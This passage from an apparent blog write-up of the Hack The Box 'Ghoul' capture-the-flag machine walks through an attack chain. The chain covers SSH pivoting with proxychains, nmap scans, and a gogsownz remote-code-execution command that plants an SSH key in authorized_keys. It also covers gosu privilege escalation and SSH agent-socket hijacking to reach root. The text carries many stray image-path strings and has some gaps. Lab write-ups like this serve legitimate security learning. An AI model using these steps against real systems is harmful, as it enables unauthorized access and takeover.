Ok, now I am set for using alocal proxychains file for the last step.

In terminal 1
root@kalivm:~/Ghoul# ssh -i kaneki.key kaneki@ -D 9000
Enter passphrase for key 'kaneki.key':
Last login: Fri Sep 20 04:30:17 2019 from

In terminal 2 (It appeared that the previously used ssh key for kaneki was the same for kaneki_pub)
root@kalivm:~/Ghoul# proxychains ssh -D 10000 -i kaneki.key kaneki_pub@
ProxyChains-3.1 (http://proxychains.sf.net)
Enter passphrase for key 'pub_kan.key':
Last login: Fri Sep 20 04:32:37 2019 from

And in terminal 3, in the px directory
root@kalivm:~/Ghoul/px# proxychains nmap -Pn -sT -n -p 22 --open
ProxyChains-3.1 (http://proxychains.sf.net)
Starting Nmap 7.80 ( https://nmap.org ) at 2019-09-20 07:17 CESTNmap scan report for
Host is up (0.017s latency).

22/tcp open  ssh

Nmap scan report for
Host is up (0.015s latency).

22/tcp open  ssh

Nmap scan report for
Host is up (0.017s latency).

22/tcp open  ssh

Nmapdone: 256 IP addresses (256 hosts up) scanned in 774.56 seconds

So there is a system live on apparently. It is fairly well known that nmap over proxychains is terribly slow (774 seconds for 256 ports… that is very slow indeed!) So lets see if it also has the default gogs port (3000) open!

root@kalivm:~/px# proxychains nmap -Pn -sT -n -p 3000
ProxyChains-3.1 (http://proxychains.sf.net)
Starting Nmap 7.80 ( https://nmap.org ) at 2019-09-20 07:40 CEST
Nmap scan report for
Host is up (0.016s latency).

3000/tcp open  pppNmap done: 1 IP address (1 host up) scanned in 0.08 seconds

So it is open, time to see if we can get a web connection to that system. First we setup an ssh tunnel using the ‘normal’ proxychains connection. With that connection, we try to forward the local port 3000 to the Gogs machine.

root@kalivm:~/Ghoul# proxychains ssh -i kaneki.key -L 3000: kaneki_pub@
ProxyChains-3.1 (http://proxychains.sf.net)
Enter passphrase for key 'kaneki.key':
Last login: Fri Sep 20 05:13:21 2019 from

And then we open a browser to localhost:3000 and see what happens.A gogs login page! Now we can take alook at that AogiriTest user and some of the previously found passwords!

After some trial and error, we found that the use AogiriTest could log in with the commented password in the Apache Tomcat config file test@aogiri123. Within Gogs, there was not much of interest to be found. However, there was a note that said there was some kind of vulnerability in Gogs that still should be patched.

One simple google query and we see that there is a gogsownz CVE, which apparently can be used to gain Administrator Rights and RCE! So we clone the repository and start messing around with it.

root@kalivm:~/gogsownz# python3 gogsownz.py -C AogiriTest:test@aogiri123 -n i_like_gogits localhost:3000 --rce 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDsiPbWC8feNW7o6emQUk12tFOcucqoS/nnKN/LM3hCtPN8r4by8Ml1IR5DctjeurAmlJtXcn8MqlHCRbR6hZKydDwDzH3mb6M/gCYm4fD9FppbOdG4xMVGODbTTPV/h2Lh3ITRm+xNHYDmWG84rQe++gJImKoREkzsUNqSvQv4rO1RlO6W3rnz1ySPAjZF5sloJ8Rmnk+MK4skfj00Gb2mM0/RNmLC/rhwoUC+Wh0KPkuErg4YlqD8IB7L3N/UaaPjSPrs2EDeTGTTFI9GdcT6LIaS65CkcexWlboQu3DDOM5lfHghHHbGOWX+bh8VHU9JjvfC8hDN74IvBsy120N5 kaneki@kaneki-pc" >> /home/git/.ssh/authorized_keys; sleep 5'
[i] Starting Gogsownz on: http://localhost:3000
[i] Gogs Version installed: © 2018 Gogs Version:
[i] The Server is redirecting on the login page. Probably REQUIRE_SIGNIN_VIEW is enabled so you will need an account.[i] Exploiting authenticated PrivEsc...
[i] Signed in as kaneki, is admin True
[i] Current session cookie: 'b17ddd74e6001337'
[i] Performed RCE successfully
[i] Done!

After some fiddling, we enter our ssh key into git’s authorized key files and are now able to login.

kaneki_pub@kaneki-pc:~$ ssh git@
Enter passphrase for key '/home/kaneki_pub/.ssh/id_rsa':
Welcome to Alpine!

The Alpine Wiki contains a large amount of how-to guides and general
information about administrating Alpine systems.
See .

You can setup the system with the command: setup-alpine

You may change this message by editing /etc/motd.


After some standard privilege escalation searches, the analysis of SUID and GUID files became a bit interesting

3713ea5e4353:~$ find / -perm -u=s -type f 2>/dev/null

The gosu binary was something I had not encountered before and from what I read on their github, TTY-access should not be given as that poses a security risk! Some fiddlingand a small nudge later, I got root access and could look in the /root directory…

3713ea5e4353:~$ gosu root /bin/sh
3713ea5e4353:/data/git# cd /root
3713ea5e4353:~# ls
aogiri-app.7z  session.sh
3713ea5e4353:~# cat session.sh
while true
  sleep 300
  rm -rf /data/gogs/data/sessions
  sleep 2
  curl -d 'user_name=kaneki&password=12345ILoveTouka!!!'

Still no flag, just a note containing kaneki’s password and a 7z file. This box is driving me nuts with all its jumps and loops and lack of root.txt flag files!

Nevertheless, now that we got this far, we want to obtain that flag so we transfer the aogiri-app.7z file to our local machine, unpack it andstart to analyze it.

root@kalivm:~/Ghoul/aogiri-app# 7z x aogiri-app.7z

7-Zip [64] 16.02 : Copyright (c) 1999-2016 Igor Pavlov : 2016-05-21
p7zip Version 16.02 (locale=en_US.UTF-8,Utf16=on,HugeFiles=on,64 bits,4 CPUs QEMU Virtual CPU version 2.5+ (663),ASM)

Scanning the drive for archives:
1 file, 117507 bytes (115 KiB)

Extracting archive: aogiri-app.7z
Path = aogiri-app.7z
Type = 7z
Physical Size = 117507
Headers Size = 4011
Method = LZMA2:192k
Solid = +
Blocks = 1

Everything is Ok

Folders: 114
Files: 125
Size:       154976
Compressed: 117507root@kalivm:~/Ghoul/aogiri-app# ls -al
total 52
drwxr-xr-x 5 root root 4096 Dec 29  2018 .
drwxr-xr-x 3 root root 4096 Sep 15 13:23 ..
drwxr-xr-x 8 root root 4096 Sep 15 13:23 .git
-rw-r--r-- 1 root root  268 Dec 29  2018 .gitignore
drwxr-xr-x 3 root root 4096 Dec 29  2018 .mvn
-rwxr-xr-x 1 root root 9113 Dec 29  2018 mvnw
-rw-r--r-- 1 root root 5810 Dec 29  2018 mvnw.cmd
-rw-r--r-- 1 root root 2111 Dec 29  2018pom.xml
-rw-r--r-- 1 root root  124 Dec 29  2018 README.md
drwxr-xr-x 4 root root 4096 Dec 29  2018 src

So I have now determined that I am in a directory that contained a full git repository of the Aogiri Chat App. After inspecting the entire structure, checking the git logs, findings some seemingly useless mysql username and password combinations, I got stuck again and asked for yet anothernudge. This was the suggestion to use the git show ORIG_HEAD command. I had never heard of that command before so I blindly tried it, checking to see what it provided.

root@kalivm:~/aogiri-app# git show ORIG_HEAD
commit 0d426b533d4f1877f8a114620be8a1294f34ab71
Author: kaneki
Date:   Sat Dec 29 11:44:50 2018 +0530

    update dependencies

diff --git a/pom.xml b/pom.xml
index 92f24ee..fc1d313 100644
--- a/pom.xml
+++ b/pom.xml
@@ -48,6 +48,11 @@
+                       mysql
+                       mysql-connector-java
+                       5.1.46
diff --git a/src/main/resources/application.properties b/src/main/resources/application.properties
index 4cbc10b..41adeb0 100644
--- a/src/main/resources/application.properties
+++ b/src/main/resources/application.properties
@@ -1,7 +1,7 @@
 spring.jpa.properties.hibernate.dialect = org.hibernate.dialect.MySQL5InnoDBDialectMore MySQL passwords that I had not yet seen before. After trying these passwords, I found that it was possible to become root on the kaneki-pc system but still can not find a flag.

kaneki_pub@kaneki-pc:~$ su -
su: Authentication failure
kaneki_pub@kaneki-pc:~$ su -
root@kaneki-pc:~# ls
root@kaneki-pc:~# cat root.txt
You've done well to come upto here human. But what you seekdoesn't lie here. The journey isn't over yet.....

However, the hint says we are close. Remembering the previous short incoming ssh connection, and knowing that I am root now, should give an idea of the right direction. Apparently this box was so confusing that I forgot all about that SSH connection, however a quick nudge put me back on the right tracks. SSH Session Hijacking! So checking on the incoming connections, seeing the ssh directory being created in /tmp, allows for SSH Hijacking. Since the session was live for only 30 seconds each time, it was a bit of a quick monitor and take action scenario. So in one terminal I opened a command checking for connections using the command watch -n1 ps aux and in the other terminal I waited for the connection to come by

Every 1.0s: ps aux                                      kaneki-pc: Sun Sep 15 07:24:36 2019

root          1  0.0  0.4  54464 19816 pts/0    Ss+  04:04   0:03 /usr/bin/python /usr/bin/supervisord -c /etc/supervisor/conf.d/su
root         10  0.0  0.1  72296  6184 pts/0    S    04:04   0:00 /usr/sbin/sshd -D
root        308  0.0  0.1  74660  6764 ?        Ss   07:17   0:00 sshd: kaneki_pub [priv]kaneki_+    310  0.0  0.0  74660  3408 ?        R    07:17   0:00 sshd: kaneki_pub@pts/1
kaneki_+    311  0.0  0.0  20256  3776 pts/1    Ss   07:17   0:00 -bash
root        321  0.0  0.0  57700  3676 pts/1    S    07:17   0:00 su -
root        322  0.0  0.0  18508  3492 pts/1    S    07:170:00 -su
root        516  0.0  0.1  74660  6624 ?        Ss   07:24   0:00 sshd: kaneki_adm [priv]
kaneki_+    521  0.0  0.0  74660  3260 ?        S    07:24   0:00 sshd: kaneki_adm@pts/2
kaneki_+    522  0.1  0.1  45188  5712 pts/2    Ss+  07:24   0:00 ssh root@ -p 2222 -t ./log.sh
root        556  0.0  0.0  34400  2800 pts/1    R+   07:24   0:00 ps aux
root@kaneki-pc:~# SSH_AUTH_SOCK=/tmp/ssh-PU27LyO3un/agent.4455 ssh root@ -p2222
Welcome to Ubuntu 18.04.1 LTS (GNU/Linux 4.15.0-45-generic x86_64)

 * Documentation:  https://help.ubuntu.com
 *Management:     https://landscape.canonical.com
 * Support:        https://ubuntu.com/advantage

 * Canonical Livepatch is available for installation.
   - Reduce system reboots and improve kernel security. Activate at:

155 packages can be updated.
0 updates are security updates.

Failed to connect to https://changelogs.ubuntu.com/meta-release-lts. Check your Internet connection or proxy settings

Last login: Sun Sep 15 06:54:02 2019 from
root@Aogiri:~# ls
log.sh  root.txt
root@Aogiri:~# cat root.txt

Finally the root flag! Obtaining this flag would not have beenpossible without the help of some people on Discord for which I am very greatfull. I learned quite a lot of things on this box and it is mostcertainly a great addition to my OSCP toolbelt and credo of ‘TryHarder!’.

Leave a Reply

Your email address will not be published. Required fields are marked *

This site uses Akismet to reduce spam. Learn how your comment data is processed.